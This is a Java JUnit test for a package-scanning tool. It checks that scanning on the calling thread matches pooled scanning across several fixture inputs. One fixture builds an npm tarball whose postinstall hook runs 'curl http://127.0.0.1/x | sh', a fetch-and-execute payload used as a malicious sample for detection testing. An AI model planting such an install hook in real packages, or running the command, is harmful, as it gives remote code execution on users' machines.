package dev.bulwark.scan;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.analysis.PackageAnalyzer;
import dev.bulwark.analysis.StaticAnalyzer;
import dev.bulwark.artifact.ReaderLimits;
import dev.bulwark.inventory.Extractors;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@link Scanner#scanOnCallingThread} gives what {@link Scanner#scan} gives, and analyses on the
 * caller's thread: the registry monitor relies on it so that its worker threads keep one set of
 * tree-sitter parsers instead of building new ones (native memory) for every version judged.
 */
class ScannerCallingThreadTest {
  private static final StaticAnalyzer ENGINE = new StaticAnalyzer(Catalogs.load(List.of()));

  @TempDir Path dir;

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"benign-tarball", "install-hook-tarball", "folder-of-two-packages",
      "missing-file", "analyzer-throws"})
  void sameResultsOnTheCallersThread(String input) throws Exception {
    Path target = input(input);
    List<Thread> seen = new ArrayList<>();
    PackageAnalyzer recording = a -> {
      seen.add(Thread.currentThread());
      if (input.equals("analyzer-throws")) {
        throw new IllegalStateException("boom");
      }
      return ENGINE.analyze(a);
    };
    List<Scanner.Request> req = List.of(new Scanner.Request(target, "t", Scanner.Mode.AUTO,
        Optional.empty()));

    List<TargetResult> pooled = scanner(recording).scan(req);
    List<Thread> pooledThreads = List.copyOf(seen);
    seen.clear();
    List<TargetResult> here = scanner(recording).scanOnCallingThread(req);

    assertThat(here).isEqualTo(pooled);
    assertThat(seen).hasSameSizeAs(pooledThreads).allMatch(t -> t == Thread.currentThread());
    assertThat(pooledThreads).noneMatch(t -> t == Thread.currentThread());
  }

  private static Scanner scanner(PackageAnalyzer a) {
    return new Scanner(a, ReaderLimits.defaults(), Optional.empty(), Extractors.all(), 2);
  }

  private Path input(String name) throws IOException {
    switch (name) {
      case "benign-tarball", "analyzer-throws" -> {
        return write("a.tgz", tgz(Map.of("package/package.json",
            "{\"name\":\"a\",\"version\":\"1.0.0\"}", "package/index.js",
            "module.exports = (a, b) => a + b;\n")));
      }
      case "install-hook-tarball" -> {
        return write("b.tgz", tgz(Map.of("package/package.json",
            "{\"name\":\"b\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}",
            "package/i.js", "require('child_process').exec('curl http://127.0.0.1/x | sh');\n")));
      }
      case "folder-of-two-packages" -> {
        for (String p : List.of("x", "y")) {
          Path d = Files.createDirectories(dir.resolve("node_modules").resolve(p));
          Files.writeString(d.resolve("package.json"),
              "{\"name\":\"" + p + "\",\"version\":\"1.0.0\"}");
          Files.writeString(d.resolve("index.js"), "module.exports = 1;\n");
        }
        return dir.resolve("node_modules");
      }
      default -> {
        return dir.resolve("no-such-file.tgz");
      }
    }
  }

  private Path write(String file, byte[] b) throws IOException {
    return Files.write(dir.resolve(file), b);
  }

  private static byte[] tgz(Map<String, String> files) throws IOException {
    ByteArrayOutputStream bo = new ByteArrayOutputStream();
    try (TarArchiveOutputStream t = new TarArchiveOutputStream(new GZIPOutputStream(bo))) {
      for (Map.Entry<String, String> e : new TreeMap<>(files).entrySet()) {
        byte[] b = e.getValue().getBytes(StandardCharsets.UTF_8);
        TarArchiveEntry te = new TarArchiveEntry(e.getKey());
        te.setSize(b.length);
        t.putArchiveEntry(te);
        t.write(b);
        t.closeArchiveEntry();
      }
    }
    return bo.toByteArray();
  }
}
